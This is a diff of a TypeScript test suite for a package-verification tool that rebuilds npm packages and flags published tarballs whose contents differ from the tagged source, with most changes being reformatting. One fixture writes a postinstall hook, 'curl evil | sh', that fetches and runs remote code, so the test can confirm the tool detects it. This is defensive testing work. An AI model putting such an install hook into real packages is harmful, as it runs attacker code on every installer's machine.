@@ -75,7 +75,7 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
   it('summarizes the risk of a mismatch whose published tarball adds a postinstall script: high, signed in the VSA, shown by quorum status', async () => {
     const pkg = await makeGitPackage(join(farm.dir, 'src/hooked'), { 'package.json': packageJson('hooked', '2.0.1'), 'index.js': INDEX }, 'v2.0.1');
     // the tarball-only change: written after the tagged commit, so only the published tarball has it
-    await writeFile(join(pkg.dir, 'package.json'), packageJson('hooked', '2.0.1', { scripts: { postinstall: 'node -e "require(\'child_process\').exec(\'curl evil | sh\')"' } }));
+    await writeFile(join(pkg.dir, 'package.json'), packageJson('hooked', '2.0.1', { scripts: { postinstall: "node -e \"require('child_process').exec('curl evil | sh')\"" } }));
     await publishFromGit(farm.registry, pkg, { how: 'image' });
     const view = await farm.submitAndDecide({ purl: 'pkg:npm/hooked@2.0.1' });
     expect(view.verdict?.verdict).toBe('mismatch');
@@ -297,7 +297,10 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
     const injected = await quorum(['audit'], app);
     expect(injected.exitCode).toBe(2);
     expect(injected.stdout).toMatch(/^mismatch +pkg:npm\/greet@1\.0\.0 +differs +the lockfile's integrity is not that of the artifact the farm verified \(reproducible\)/m);
-    const sarif = JSON.parse((await quorum(['audit', '--sarif'], app)).stdout) as { version: string; runs: { results: { ruleId: string; level: string; locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }[] }[] }[] };
+    const sarif = JSON.parse((await quorum(['audit', '--sarif'], app)).stdout) as {
+      version: string;
+      runs: { results: { ruleId: string; level: string; locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }[] }[] }[];
+    };
     expect(sarif.version).toBe('2.1.0');
     const finding = sarif.runs[0]!.results.find((r) => r.ruleId === 'quorum/integrity-differs')!;
     expect(finding.level).toBe('error');
@@ -313,12 +316,19 @@ describe('verdicts on a farm of three workers (N=3, M=2)', () => {
     await writeFile(join(farm.dir, 'xz-lock/yarn.lock'), `# yarn lockfile v1\n\n\nxzlike@5.6.0:\n  version "5.6.0"\n  resolved "${farm.registry.url}/xzlike/-/xzlike-5.6.0.tgz"\n`);
     const alarmed = await quorum(['audit', '--json', join(farm.dir, 'xz-lock')], app);
     expect(alarmed.exitCode).toBe(2);
-    expect((JSON.parse(alarmed.stdout) as typeof report & { entries: { risk?: { level: string } }[] }).entries[0]).toMatchObject({ purl: 'pkg:npm/xzlike@5.6.0', status: 'mismatch', integrity: 'unchecked', risk: { level: 'high' } });
+    expect((JSON.parse(alarmed.stdout) as typeof report & { entries: { risk?: { level: string } }[] }).entries[0]).toMatchObject({
+      purl: 'pkg:npm/xzlike@5.6.0',
+      status: 'mismatch',
+      integrity: 'unchecked',
+      risk: { level: 'high' },
+    });
 
     // hostile requests are 4xx, never a crash
     expect((await farm.request('POST', '/v1/audit', { packages: 'all' })).status).toBe(400);
     expect((await farm.request('POST', '/v1/audit', { packages: Array.from({ length: 20_001 }, () => ({ purl: 'pkg:npm/a@1.0.0' })) })).status).toBe(400);
-    const odd = await farm.json<{ entries: { status: string; note?: string }[] }>('POST', '/v1/audit', { packages: [{ purl: 'not a purl' }, { purl: 'pkg:cargo/serde@1.0.0' }, { purl: 'pkg:npm/greet' }] });
+    const odd = await farm.json<{ entries: { status: string; note?: string }[] }>('POST', '/v1/audit', {
+      packages: [{ purl: 'not a purl' }, { purl: 'pkg:cargo/serde@1.0.0' }, { purl: 'pkg:npm/greet' }],
+    });
     expect(odd.entries.map((e) => [e.status, e.note])).toEqual([
       ['unknown', 'not a valid purl'],
       ['unknown', 'this farm rebuilds no cargo packages'],
